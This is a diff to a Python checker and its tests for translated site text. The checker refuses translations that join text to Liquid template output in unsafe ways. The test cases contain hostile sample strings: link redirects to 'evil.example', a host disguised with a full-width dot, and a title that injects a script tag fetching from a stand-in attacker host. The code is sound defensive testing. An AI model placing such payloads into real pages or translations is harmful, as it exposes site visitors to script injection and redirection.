@@ -406,13 +406,19 @@ def _net_read_plainly(text: str) -> checks._PlainText:
     joined = _net_read_one_way(re.sub(template_code, "", text, flags=re.S))
     words = [w for w in re.sub(template_code, "\x00", text, flags=re.S).split() if "\x00" in w]
     beside = Counter(("unsafe-html", f"{c} beside Liquid or a shortcode") for w in words for c in re.findall(r"[<=/\\&@]|:(?=\S)|\.(?=\w)", w))
-    continued = Counter(("unsafe-html", "text joined to " + re.sub(r"\s+", "", m.group()))
-                        for m in re.finditer(template_code, text, re.S) if re.match(r"[\w.%+@=~-]", text[m.end() :]))
+    continued: Counter = Counter()
+    spans = list(re.finditer(template_code, text, re.S))
+    for previous, m in zip([None, *spans], spans):
+        code = re.sub(r"\s+", "", m.group())
+        if (previous is None or previous.end() != m.start()) and m.start() and text[m.start() - 1] in "<&./@:=\\":
+            continued["unsafe-html", f"{text[m.start() - 1]} right before {code}"] += 1
+        if "url" in code.lower() and re.match(r"[\w.%+@=~:-]", text[m.end() :]):
+            continued["unsafe-html", f"{text[m.end()]} right after {code}"] += 1
     return checks._PlainText(found.runnable | joined.runnable | beside | continued, found.hosts | joined.hosts)
 
 
 def _net_read_one_way(text: str) -> checks._PlainText:
-    tag_text = checks.html.unescape(text).lower()
+    tag_text = checks.html.unescape(text).lower().replace("。", ".").replace("．", ".").replace("｡", ".")
     readings = checks._readings(tag_text)
     schemes = [Counter(m.group() for m in re.finditer(r"(?<![a-z0-9+.-])(?:(?:java|vb|live)script:|data:(?=\S))", r)) for r in readings]
     names = "|".join(sorted(checks._LOADING_ATTRIBUTES))
@@ -504,14 +510,28 @@ def test_liquid_in_a_translation_as_its_source_has_it_passes() -> None:
 
 @pytest.mark.parametrize(("msgid", "msgstr"), [
     ("Voir le [programme]({{ site.url }}/assets/programme.pdf).", "See the [programme]({{ site.url }}-evil.example/assets/p)."),
-    ("Partagez « {{ page.title }} » autour de vous.", "Share « {{ page.title }}script>alert(1)// » around you."),
+    ("Voir le [programme]({{ site.url }}/assets/programme.pdf).", "See the [programme]({{ site.url }}: @evil。example/assets/p)."),
+    ("Vous lisez <strong>{{ page.title }}</strong>.", "You are reading <strong>this</strong>. <{{ page.title }}>"),
+    ("Lisez {{ page.title }} ici.", "Read www.{{ page.title }}.example here."),
 ])
 def test_the_net_refuses_text_joined_to_what_a_template_prints(msgid: str, msgstr: str) -> None:
     # `{{ site.url }}` prints the site's address, `{{ page.title }}` the translated title
-    assert "unsafe-html" in codes(msgid, msgstr)
+    assert codes(msgid, msgstr) & checks.SAFETY_CODES
+
+
+@pytest.mark.parametrize("title", ["The book box in the park <", "script>fetch('//evil.example/p') //", "A &lt; B"])
+def test_a_value_printed_as_it_is_holds_no_lone_angle_bracket(title: str) -> None:
+    # a layout, or the body's `{{ page.title }}`, prints it beside text that would make it markup
+    assert "unsafe-html" in codes("Une boîte à livres au parc", title, kind="front matter: title")
 
 
 @pytest.mark.parametrize(("msgid", "msgstr"), [
+    ("Rédigé par {{ page.auteur }}", "Written by {{ page.auteur }}."),
+    ("Le taux atteint {{ page.taux }} % cette année.", "The rate reaches {{ page.taux }}% this year."),
+    ("Rendez-vous le {{ page.jour }} mai.", "See you on May {{ page.jour }}th."),
+    ("Le tarif est de {{ page.tarif }} €.", "The fee is €{{ page.tarif }}."),
+    ("Ouvert de {{ page.debut }} à {{ page.fin }}.", "Open {{ page.debut }}-{{ page.fin }}."),
+    ("Les {{ page.nombre }} livres", "The {{ page.nombre }}-odd books"),
     ("Horaires de {{ page.lieu }} : voir ici.", "Opening hours of {{ page.lieu }}: see here."),
     ("Lire [la page]({% link a.md %}) : ici.", "Read [the page]({% link a.md %}): here."),
     ("Le {{ page.count }}e livre.", "The {{ page.count }}th book."),
